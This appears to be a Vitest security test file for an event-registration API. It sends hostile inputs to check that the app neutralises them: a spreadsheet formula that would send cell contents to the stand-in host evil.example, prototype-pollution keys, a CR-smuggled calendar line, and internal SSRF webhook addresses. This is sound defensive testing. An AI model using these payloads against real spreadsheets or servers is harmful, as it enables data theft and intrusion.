import { statSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eventCalendar } from '../../src/modules/emails/emails.templates.ts';
import { resolvePublicAddresses } from '../../src/modules/webhooks/webhook-targets.ts';
import { startTestApp, type TestApp } from '../support/app.ts';
import { createSeedShapedEvent, createUser } from '../support/factories.ts';
import { graphql, graphqlOk, http } from '../support/http.ts';
import { postRegistration, registrationBody } from '../support/rest.ts';

/** What comes in is checked before anything trusts it; what goes out cannot be turned against its reader. */
let app: TestApp;
beforeAll(async () => {
  app = await startTestApp({ CORS_ORIGINS: 'https://dash.example.com', PUBLIC_FORM_RATE_LIMIT_PER_MIN: '1000' });
});
afterAll(async () => {
  await app?.stop();
});

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(1)', '\tTabbed', '\rReturn'];

describe('CSV formula injection', () => {
  it('every cell starting with = + - @ TAB or CR is prefixed with a quote, in the REST export and the dashboard download', async () => {
    const seed = await createSeedShapedEvent(app.deps);
    for (const [i, formula] of FORMULAS.entries()) {
      const res = await http(`${app.url}/v1/public/events/${seed.event.id}/registrations`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(registrationBody({ first_name: formula, email: `formula${i}@example.com`, custom_data: { company: formula } })),
      });
      expect(res.status).toBe(201);
    }
    const rest = await http(`${app.url}/v1/events/${seed.event.id}/registrations.csv`, { headers: { authorization: `Bearer ${seed.liveKey}` } });
    const { createAttendeesExport } = await graphqlOk(app.url, 'mutation ($id: ID!) { createAttendeesExport(input: { eventId: $id }) { url } }', {
      token: seed.owner.token,
      variables: { id: seed.event.id },
    });
    const download = await http(createAttendeesExport.url);
    for (const csv of [rest.text, download.text]) {
      const rows = (parse(csv) as string[][]).slice(1);
      // Names are trimmed when registered (so the tab and CR ones lose that character); custom data is kept as sent.
      expect(rows.map((r) => r[1]).sort()).toEqual(
        FORMULAS.map((f) => f.trim())
          .map((f) => (/^[=+\-@]/.test(f) ? `'${f}` : f))
          .sort(),
      );
      expect(rows.map((r) => r[13]).sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    }
  });
});

describe('hostile JSON on every JSON route', () => {
  const routes = async () => {
    const seed = await createSeedShapedEvent(app.deps);
    const key = { authorization: `Bearer ${seed.liveKey}` };
    return [
      { name: 'POST registrations', url: `${app.url}/v1/events/${seed.event.id}/registrations`, headers: key },
      { name: 'POST public registrations', url: `${app.url}/v1/public/events/${seed.event.id}/registrations`, headers: {} },
      { name: 'POST check-ins', url: `${app.url}/v1/events/${seed.event.id}/check-ins`, headers: key },
    ];
  };

  it.each(['__proto__', 'constructor', 'prototype'])('a key named %s is an ordinary unknown key: 422 naming it, nothing written', async (name) => {
    for (const route of await routes()) {
      const body = `{"first_name":"A","last_name":"B","email":"proto@example.com","qr_token":"3f4a9b2c-6f0e-4d8a-9c41-2b7d5e9a1f03","${name}":{"polluted":true}}`;
      const res = await http(route.url, { method: 'POST', headers: { 'content-type': 'application/json', ...route.headers }, body });
      expect(res.status, route.name).toBe(422);
      expect((res.body as { errors: Record<string, string[]> }).errors[name], route.name).toEqual([
        `The ${name.replace(/_/g, ' ').trim()} field is prohibited.`,
      ]);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    }
    expect(await app.deps.prisma.attendee.count({ where: { email: 'proto@example.com' } })).toBe(0);
  });

  it('nesting deeper than 32 levels is a 422, not a 500, and nothing is written', async () => {
    const deep = `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`;
    for (const route of await routes()) {
      const body = `{"first_name":"A","last_name":"B","email":"deep@example.com","custom_data":${deep}}`;
      const res = await http(route.url, { method: 'POST', headers: { 'content-type': 'application/json', ...route.headers }, body });
      expect(res.status, route.name).toBe(422);
      expect(res.body, route.name).toEqual({
        message: 'The given data was invalid.',
        errors: { custom_data: ['The custom data field must not be nested more than 32 levels deep.'] },
      });
    }
    const seed = await createSeedShapedEvent(app.deps);
    const viaGraphQL = await graphql(
      app.url,
      'mutation ($id: ID!, $data: JSON) { registerAttendee(input: { eventId: $id, firstName: "A", lastName: "B", email: "deep@example.com", customData: $data }) { id } }',
      { token: seed.owner.token, variables: { id: seed.event.id, data: JSON.parse(deep) } },
    );
    expect(viaGraphQL.errors?.[0]?.extensions).toEqual({
      code: 'BAD_USER_INPUT',
      errors: { customData: ['The custom data field must not be nested more than 32 levels deep.'] },
    });
    expect(await app.deps.prisma.attendee.count({ where: { email: 'deep@example.com' } })).toBe(0);
  });
});

describe('browser headers', () => {
  it('every response says nosniff, no-referrer and no-store (REST, public REST, GraphQL, the QR image)', async () => {
    const seed = await createSeedShapedEvent(app.deps);
    const created = await postRegistration(app.url, seed.event.id, registrationBody(), { key: seed.liveKey });
    const answers = [
      created,
      await http(`${app.url}/v1/public/events/${seed.event.id}`),
      await graphql(app.url, '{ viewer { role } }', { token: seed.owner.token }),
      await http(created.body.qr_code_url),
      await http(`${app.url}/no/such/route`),
    ];
    for (const answer of answers) {
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
      expect(answer.headers.get('cache-control')).toBe('no-store');
    }
  });

  it('/graphql allows only CORS_ORIGINS, never with credentials; the public REST stays open to any site without them', async () => {
    const preflight = (origin: string, path: string) =>
      fetch(`${app.url}${path}`, {
        method: 'OPTIONS',
        headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type,authorization' },
      });
    const evil = await preflight('https://evil.example', '/graphql');
    expect(evil.headers.get('access-control-allow-origin')).toBeNull();
    expect(evil.headers.get('access-control-allow-credentials')).toBeNull();
    const dashboard = await preflight('https://dash.example.com', '/graphql');
    expect(dashboard.headers.get('access-control-allow-origin')).toBe('https://dash.example.com');
    expect(dashboard.headers.get('access-control-allow-credentials')).toBeNull();
    const seed = await createSeedShapedEvent(app.deps);
    const form = await preflight('https://any-site.example', `/v1/public/events/${seed.event.id}/registrations`);
    expect(form.headers.get('access-control-allow-origin')).toBe('*');
    expect(form.headers.get('access-control-allow-credentials')).toBeNull();
  });

  it('GraphiQL is served with a Content-Security-Policy', async () => {
    const page = await fetch(`${app.url}/graphql`, { headers: { accept: 'text/html' } });
    expect(page.headers.get('content-type')).toMatch(/^text\/html/);
    expect(page.headers.get('content-security-policy')).toMatch(/default-src 'none'.*connect-src 'self'.*frame-ancestors 'none'/);
  });
});

describe('outbound targets (SSRF)', () => {
  it.each([
    ['http://[::127.0.0.1]/hook', 'IPv4-compatible'],
    ['http://[::7f00:1]/hook', 'IPv4-compatible'],
    ['http://192.0.2.10/hook', 'reserved'],
    ['http://198.18.0.1/hook', 'reserved'],
    ['http://[2001:db8::1]/hook', 'reserved'],
    ['http://[64:ff9b::a00:1]/hook', 'rfc6052'],
    ['http://[2002:7f00:1::]/hook', '6to4'],
    ['http://240.0.0.1/hook', 'reserved'],
  ])('refuses %s (%s)', async (url, range) => {
    const owner = await createUser(app.deps);
    const result = await graphql(app.url, 'mutation ($url: String!) { createWebhookEndpoint(input: { url: $url }) { secret } }', {
      token: owner.token,
      variables: { url },
    });
    expect(result.errors?.[0]?.extensions.errors?.url?.[0]).toContain(`is a ${range} address`);
    expect(await app.deps.prisma.webhookEndpoint.count({ where: { organisationId: owner.organisationId } })).toBe(0);
  });

  it('a name that resolves to an internal address is refused by rule, without saying which address', async () => {
    const problem = await resolvePublicAddresses('intranet.example', (_host, _options, callback) => callback(null, [{ address: '10.20.30.40', family: 4 }]));
    expect(problem).toBe('must not point to a private or special-purpose address (intranet.example resolves to a private address)');
    expect(problem).not.toContain('10.20.30.40');
  });
});

describe('small things', () => {
  it('a lone CR in an event name cannot start a new line of the .ics file', () => {
    const ics = eventCalendar({
      uid: 'u@eventogate',
      url: 'https://example.com',
      event: { id: 'evt_x', name: 'Party\rATTENDEE:mailto:evil@example.com', startsAt: new Date(), endsAt: new Date(), timezone: 'UTC', venue: 'Hall\r\nX' },
    });
    expect(ics.split('\r\n').filter((line) => line.startsWith('ATTENDEE'))).toEqual([]);
    expect(ics).toContain('SUMMARY:Party\\nATTENDEE:mailto:evil@example.com');
    expect(ics.replace(/\r\n/g, '')).not.toMatch(/\r|\n/);
  });

  it('dev mailbox files are readable by their owner only', async () => {
    const seed = await createSeedShapedEvent(app.deps, { confirmationEmails: true });
    const res = await http(`${app.url}/v1/public/events/${seed.event.id}/registrations`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(registrationBody({ email: 'mailbox@example.com' })),
    });
    expect(res.status).toBe(201);
    await expect
      .poll(async () => (await app.deps.prisma.emailLog.findFirst({ where: { to: 'mailbox@example.com' } }))?.devMailboxFile, { timeout: 10_000 })
      .toBeTruthy();
    const file = (await app.deps.prisma.emailLog.findFirstOrThrow({ where: { to: 'mailbox@example.com' } })).devMailboxFile!;
    expect(statSync(file).mode & 0o777).toBe(0o600);
  });
});
